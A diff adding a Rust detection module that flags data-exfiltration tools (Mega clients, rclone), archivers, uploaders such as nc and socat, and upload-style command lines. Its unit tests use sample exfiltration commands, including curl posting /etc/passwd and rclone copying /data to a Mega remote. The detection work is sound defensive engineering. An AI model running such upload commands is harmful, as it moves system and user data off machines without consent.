@@ -1,0 +1,165 @@
+//! What names mean: exfiltration tools, archivers, applications that should not
+//! upload, and command lines that public rules flag as uploads. Matching is on
+//! basenames of the executable and of argv[0], case-insensitive, so a copy in
+//! /tmp is still `rclone`; a renamed binary is caught by where it sends (the
+//! destination catalog, issue "Destinations") and by its command line.
+
+/// Basename, lowercased, without a trailing ".exe" (Wine, mixed fleets).
+pub fn base(path: &str) -> String {
+    let b = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
+    b.strip_suffix(".exe").map(str::to_string).unwrap_or(b)
+}
+
+/// Mega clients (MEGAsync, MEGAcmd's client commands and server, megatools)
+/// and bulk-sync tools. Sources: Splunk "Mega Utility Execution" (megasync,
+/// megacmd), Red Canary's rclone/Mega extortion write-up, MEGAcmd and megatools
+/// command lists.
+pub const EXFIL_TOOLS: &[(&str, &str)] = &[
+    ("megasync", "MEGAsync"),
+    ("mega-cmd", "MEGAcmd"),
+    ("mega-cmd-server", "MEGAcmd server"),
+    ("megacmd", "MEGAcmd"),
+    ("megacmdserver", "MEGAcmd server"),
+    ("mega-put", "MEGAcmd"),
+    ("mega-exec", "MEGAcmd"),
+    ("mega-sync", "MEGAcmd"),
+    ("mega-backup", "MEGAcmd"),
+    ("mega-transfers", "MEGAcmd"),
+    ("megaput", "megatools"),
+    ("megacopy", "megatools"),
+    ("megatools", "megatools"),
+    ("rclone", "rclone"),
+];
+
+/// Archivers, compressors, splitters and encryptors: the first half of
+/// archive-then-upload (MITRE T1560.001, T1030 for split).
+pub const ARCHIVERS: &[&str] = &[
+    "tar", "gzip", "pigz", "bzip2", "pbzip2", "xz", "zstd", "lz4", "zip", "7z", "7za", "7zr", "rar", "split", "gpg",
+    "gpg2", "openssl", "age", "cpio",
+];
+
+/// Applications not expected to send bulk data (MITRE T1567's
+/// "WatchedApplications": office suites, viewers) plus archivers, which never
+/// need the network themselves.
+pub const WATCHED_APPS: &[&str] = &[
+    "soffice.bin", "soffice", "libreoffice", "oosplash", "evince", "okular", "atril", "xpdf", "zathura", "eog",
+    "gimp", "inkscape", "vim", "nano", "less", "cat",
+];
+
+/// Uploaders: the second half of archive-then-upload.
+pub const UPLOADERS: &[&str] = &[
+    "curl", "wget", "python", "python3", "perl", "ruby", "php", "node", "nc", "ncat", "socat", "scp", "sftp", "rsync",
+    "rclone", "ftp", "lftp", "openssl",
+];
+
+pub fn exfil_tool(executable: &str, args: &[String]) -> Option<&'static str> {
+    let names = [Some(base(executable)), args.first().map(|a| base(a))];
+    for n in names.iter().flatten() {
+        if let Some((_, product)) = EXFIL_TOOLS.iter().find(|(k, _)| k == n) {
+            return Some(product);
+        }
+    }
+    None
+}
+
+fn is_in(list: &[&str], executable: &str) -> bool {
+    let b = base(executable);
+    // python3.11 -> python3, perl5.36 -> perl
+    let trimmed = b.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    list.iter().any(|n| *n == b || *n == trimmed)
+}
+
+pub fn is_archiver(executable: &str) -> bool {
+    is_in(ARCHIVERS, executable)
+}
+
+pub fn is_watched(executable: &str) -> bool {
+    is_in(WATCHED_APPS, executable) || is_archiver(executable)
+}
+
+pub fn is_uploader(executable: &str) -> bool {
+    is_in(UPLOADERS, executable)
+}
+
+/// A command line that public rules flag as an upload: curl -T/--upload-file/
+/// -F/--data* with @file, wget --post-file/--body-file, rclone copy/sync/move
+/// (with --transfers or a mega remote). Returns a short description.
+pub fn upload_cmdline(executable: &str, args: &[String]) -> Option<&'static str> {
+    let b = base(args.first().map(String::as_str).unwrap_or(executable));
+    let b_exe = base(executable);
+    let is = |n: &str| b == n || b_exe == n;
+    let rest = args.get(1..).unwrap_or(&[]);
+    if is("curl") {
+        let mut prev = "";
+        for a in rest {
+            let a = a.as_str();
+            if matches!(a, "-T" | "--upload-file") || a.starts_with("--upload-file=") || (a.starts_with("-T") && a.len() > 2) {
+                return Some("curl upload (-T)");
+            }
+            let data_flag = |f: &str| matches!(f, "-F" | "--form" | "-d" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode");
+            if data_flag(prev) && (a.starts_with('@') || a.contains("=@") || a.contains("=<")) {
+                return Some("curl form/data upload of a file (@)");
+            }
+            prev = a;
+        }
+    }
+    if is("wget") && rest.iter().any(|a| a.starts_with("--post-file") || a.starts_with("--body-file")) {
+        return Some("wget --post-file/--body-file");
+    }
+    if is("rclone") {
+        let verb = rest.iter().find(|a| !a.starts_with('-')).map(String::as_str).unwrap_or("");
+        if matches!(verb, "copy" | "sync" | "move" | "copyto" | "moveto") {
+            let mega = rest.iter().any(|a| a.to_ascii_lowercase().starts_with("mega"));
+            let transfers = rest.iter().any(|a| a.starts_with("--transfers"));
+            return Some(if mega {
+                "rclone copy/sync to a mega remote"
+            } else if transfers {
+                "rclone copy/sync with --transfers"
+            } else {
+                "rclone copy/sync"
+            });
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn s(v: &[&str]) -> Vec<String> {
+        v.iter().map(|x| x.to_string()).collect()
+    }
+
+    #[test]
+    fn tools_by_executable_or_argv0_in_any_directory() {
+        assert_eq!(exfil_tool("/tmp/x/rclone", &s(&["rclone"])), Some("rclone"));
+        assert_eq!(exfil_tool("/usr/bin/mega-put", &[]), Some("MEGAcmd"));
+        assert_eq!(exfil_tool("/opt/MEGAsync.exe", &[]), Some("MEGAsync"));
+        assert_eq!(exfil_tool("/usr/bin/curl", &s(&["mega-put"])), Some("MEGAcmd"));
+        assert_eq!(exfil_tool("/usr/bin/curl", &s(&["curl"])), None);
+    }
+
+    #[test]
+    fn archivers_uploaders_watched() {
+        assert!(is_archiver("/usr/bin/tar") && is_archiver("/bin/gzip") && is_archiver("/usr/bin/7z"));
+        assert!(is_uploader("/usr/bin/python3.11") && is_uploader("/usr/bin/curl"));
+        assert!(is_watched("/usr/lib/libreoffice/program/soffice.bin") && is_watched("/usr/bin/tar"));
+        assert!(!is_watched("/usr/bin/curl"));
+    }
+
+    #[test]
+    fn upload_command_lines() {
+        assert!(upload_cmdline("/usr/bin/curl", &s(&["curl", "-T", "f", "http://x"])).is_some());
+        assert!(upload_cmdline("/usr/bin/curl", &s(&["curl", "-F", "file=@/etc/passwd", "http://x"])).is_some());
+        assert!(upload_cmdline("/usr/bin/curl", &s(&["curl", "--data-binary", "@db.tar", "http://x"])).is_some());
+        assert!(upload_cmdline("/usr/bin/curl", &s(&["curl", "-d", "a=b", "http://x"])).is_none());
+        assert!(upload_cmdline("/usr/bin/curl", &s(&["curl", "-O", "http://x/big.iso"])).is_none());
+        assert!(upload_cmdline("/usr/bin/wget", &s(&["wget", "--post-file=x", "http://x"])).is_some());
+        assert_eq!(
+            upload_cmdline("/usr/bin/rclone", &s(&["rclone", "copy", "/data", "mega:backup"])),
+            Some("rclone copy/sync to a mega remote")
+        );
+        assert!(upload_cmdline("/usr/bin/rclone", &s(&["rclone", "ls", "mega:"])).is_none());
+    }
+}
